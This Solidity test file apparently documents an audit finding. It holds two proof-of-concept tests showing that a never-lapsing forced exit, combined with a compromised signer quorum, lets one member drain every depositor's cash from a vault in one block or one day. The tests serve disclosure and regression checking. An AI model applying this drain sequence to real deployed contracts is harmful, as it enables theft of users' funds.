// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {VaultFixture} from "../utils/VaultFixture.sol";
import {IVault} from "../../src/interfaces/IVault.sol";
import {Batch} from "../../src/libraries/Batch.sol";

/// @notice Round 4, finding 2: an armed, overdue forced exit never lapses, so it is a standing option to open
/// the wind-down at a moment of its holder's choosing. Combined with a later compromise of the risk-signer
/// quorum it lets 100 % of the vault leave in the block of the compromising batch, beyond the trust model's
/// bound `B_a × (⌈D/P⌉ + 1)` and before anyone (guardian, governance) can react.
///
/// Phase 1 (honest signers, the state the lead's README lists as still open under finding 2): dave asks to
/// exit while keeping positions (IM > 0); the engine does not close him out, so after E his exit is armed
/// and after the grace it can open the wind-down at any later time. Nobody is obliged to call it; dave
/// keeps the option. 30 days of ordinary batches change nothing (no row touches the exit word: only a raise
/// from IM 0 of a served exit restarts the clock).
/// Phase 2: the quorum is compromised. One batch moves every member's cash to dave and keeps his IM 1; in
/// the same transaction (or the same block) anyone calls forceWindDown(dave), and dave's windDownWithdraw
/// pays out everything without delay, outflow budget or veto. The guardian's pause and governance's signer
/// rotation both come too late: after the wind-down no batch can put the balances back.
contract Rev11R4ArmedExitIsAStandingOption is VaultFixture {
    uint256 internal constant BUDGET = 10_000 * USD_UNIT;
    uint256 internal constant VICTIMS = 600_000 * USD_UNIT;

    function setUp() public override {
        super.setUp();
        _allowOutflow(USD, BUDGET);
        _deposit(alice, USD, 300_000 * USD_UNIT);
        _deposit(bob, USD, 200_000 * USD_UNIT);
        _deposit(carol, USD, 100_000 * USD_UNIT);
        _deposit(dave, USD, 10_000 * USD_UNIT);
        Batch.Data memory b = _nextBatch();
        b.requirements = _one(_req(DAVE, 2_000 * USD_UNIT, 1_000 * USD_UNIT)); // dave holds positions
        _settle(b);
    }

    function test_harm_armedExitLetsACompromisedQuorumTakeEverythingInOneBlock() public {
        // Phase 1, honest: dave asks to exit and keeps his positions; the exit is armed after E, due after the grace
        vm.prank(dave);
        vault.requestExit();
        for (uint256 i; i < 8; ++i) {
            vm.warp(block.timestamp + 1 days);
            _settle(_nextBatch()); // honest batches keep landing
        }
        vault.forceWindDown(DAVE); // armed (WindDownArmed)
        for (uint256 i; i < 30; ++i) {
            vm.warp(block.timestamp + 1 days);
            _settle(_nextBatch()); // a month of honest batches: the option stays live
        }
        assertFalse(vault.woundDown(), "nobody used it yet");

        // Phase 2: the quorum is compromised (the same keys sign); one block
        Batch.Data memory b = _nextBatch();
        b.transfers = new bytes32[](4);
        b.transfers[0] = _t(ALICE, USD, -300_000e6);
        b.transfers[1] = _t(BOB, USD, -200_000e6);
        b.transfers[2] = _t(CAROL, USD, -100_000e6);
        b.transfers[3] = _t(DAVE, USD, int256(VICTIMS));
        b.requirements = _one(_req(DAVE, 1, 0)); // keep the exit unserved (already unserved: no restart)
        _settle(b);
        vault.forceWindDown(DAVE); // opens: armed more than WIND_DOWN_GRACE ago
        assertTrue(vault.woundDown(), "wound down in the block of the bad batch");
        vm.prank(dave);
        vault.windDownWithdraw(USD, dave);

        uint256 taken = usd.balanceOf(dave) - 0; // dave had deposited 10,000 of his own
        uint256 bound = BUDGET * 2; // B × (ceil(D/P) + 1), D = P = 1 day
        assertEq(taken, VICTIMS + 10_000 * USD_UNIT, "every member's cash left to the colluder");
        assertGt(taken - 10_000 * USD_UNIT, bound * 29, "stolen: 30x the stated bound");
        assertEq(vault.totalOwed(USD), 0, "the vault is empty");
    }

    /// Variant: no standing arming needed. Dave's exit (IM > 0, as the honest engine leaves a member with
    /// positions) is E old when the bad batch lands; it is armed right after and opens WIND_DOWN_GRACE (1 day)
    /// later. docs/contracts.md ("What the bound assumes") gives governance `E + MAX_PAUSE` from the compromise;
    /// here it has `WIND_DOWN_GRACE + MAX_PAUSE` = 8 days from the bad batch (the pause can hold it 7 of them).
    function test_harm_badBatchAtTheEndOfAnExitsPeriodLeavesOnlyTheGrace() public {
        vm.prank(dave);
        vault.requestExit();
        vm.warp(block.timestamp + ESCAPE_PERIOD);
        Batch.Data memory b = _nextBatch();
        b.transfers = new bytes32[](4);
        b.transfers[0] = _t(ALICE, USD, -300_000e6);
        b.transfers[1] = _t(BOB, USD, -200_000e6);
        b.transfers[2] = _t(CAROL, USD, -100_000e6);
        b.transfers[3] = _t(DAVE, USD, int256(VICTIMS));
        _settle(b);
        uint256 badBatchAt = block.timestamp;
        vault.forceWindDown(DAVE); // armed in the same block
        vm.warp(block.timestamp + 1 days); // the grace; nobody reacts in a day
        vault.forceWindDown(DAVE);
        vm.prank(dave);
        vault.windDownWithdraw(USD, dave);
        assertEq(usd.balanceOf(dave), VICTIMS + 10_000 * USD_UNIT, "everything left");
        assertEq(block.timestamp - badBatchAt, 1 days, "one day after the bad batch, not E");
    }
}
